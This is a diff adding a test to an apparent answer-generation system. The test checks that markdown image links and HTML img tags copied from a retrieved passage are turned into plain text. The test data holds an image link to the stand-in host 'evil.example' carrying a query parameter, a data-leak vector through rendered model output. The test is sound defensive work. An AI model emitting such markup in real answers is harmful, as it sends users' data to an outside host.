@@ -239,3 +239,11 @@ def test_a_short_answer_out_of_the_best_sentence_is_shown_and_not_replaced_by_it
     assert (got.mode, got.text) == (Mode.GENERATED, "30 days. [1]")
     elsewhere, _ = ask(returns, QUESTION, ["Gift cards are not refundable [1]."], settings=strict)
     assert elsewhere.mode is not Mode.GENERATED
+
+
+def test_a_picture_that_the_model_copies_is_words_in_the_answer_and_in_its_draft(returns: Workspace) -> None:
+    copied = "Customers may return a bike within 30 days ![x](https://evil.example/?q=bike). <img src=x>"
+    got, _ = ask(returns, QUESTION, [copied])
+    for words in (got.text, got.draft, *(one.claim for one in got.citations)):
+        assert "](" not in words and "<img" not in words
+    assert "30 days ![x] https://evil.example" in got.draft
